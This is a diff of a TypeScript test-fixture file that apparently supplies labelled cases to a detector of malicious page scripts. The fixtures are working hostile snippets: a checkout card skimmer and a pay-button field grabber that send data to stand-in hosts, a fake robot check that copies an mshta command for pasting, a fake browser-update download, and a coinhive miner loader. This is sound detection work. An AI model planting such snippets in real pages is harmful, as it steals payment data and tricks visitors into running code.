@@ -12,7 +12,7 @@ const base64 = (text: string): string => Buffer.from(text).toString('base64')
 const percent = (text: string): string =>
   [...text].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
 
-const SKIMMER = `if(location.href.indexOf('checkout')>-1){setInterval(function(){var d={};document.querySelectorAll('input,select').forEach(function(e){if(e.value)d[e.name]=e.value});if(d['payment[cc_number]'])new Image().src='https://stats.example.net/i.gif?d='+btoa(JSON.stringify(d))},900)}`
+export const SKIMMER = `if(location.href.indexOf('checkout')>-1){setInterval(function(){var d={};document.querySelectorAll('input,select').forEach(function(e){if(e.value)d[e.name]=e.value});if(d['payment[cc_number]'])new Image().src='https://stats.example.net/i.gif?d='+btoa(JSON.stringify(d))},900)}`
 
 export const SCRIPT_CASES: readonly ScriptCase[] = [
   { name: 'fields of a checkout sent by an image', source: SKIMMER, head: 'magecart' },
@@ -93,6 +93,26 @@ export const SCRIPT_CASES: readonly ScriptCase[] = [
     source: `alert('Virus detected. Call support now');window.onbeforeunload=function(){return 'stay'}`,
     head: 'malware',
   },
+  {
+    name: 'every field on a click, encoded, to a host that cannot answer',
+    source: `document.querySelector('#pay').addEventListener('click',function(){var all={};document.querySelectorAll('input').forEach(function(i){all[i.name]=i.value});fetch('https://c.example.org/g',{method:'POST',mode:'no-cors',body:btoa(JSON.stringify(all))})})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a check for robots that has a command run',
+    source: `var c='m'+'shta https://v.example.org/c.hta';document.body.innerHTML+='<b>Verify you are human</b><ol><li>Press Windows + R<li>Press Ctrl + V</ol><button id=v>I am not a robot</button>';document.getElementById('v').onclick=function(){var t=document.createElement('textarea');t.value=c;document.body.append(t);t.select();document.execCommand('copy')}`,
+    head: 'malware',
+  },
+  {
+    name: 'a page that has a program of a stranger for an update',
+    source: `document.body.innerHTML='<h1>Your browser is out of date. Update your browser to go on</h1><a href="https://load.example.org/ChromeSetup.exe">Update</a>'`,
+    head: 'malware',
+  },
+  {
+    name: 'a miner from its own host',
+    source: `var s=document.createElement('script');s.src='https://coinhive.com/lib/coinhive.min.js';document.head.append(s)`,
+    head: 'cryptomining',
+  },
   { name: 'nothing', source: '', head: null },
   {
     name: 'proof of work against robots',
@@ -131,5 +151,4 @@ export const SCRIPT_CASES: readonly ScriptCase[] = [
     source: `window.config=JSON.parse(atob('${base64('{"api":"/api"}')}'))`,
     head: null,
   },
-  { name: 'text that is no script', source: 'this is { not a (script', head: null },
 ]
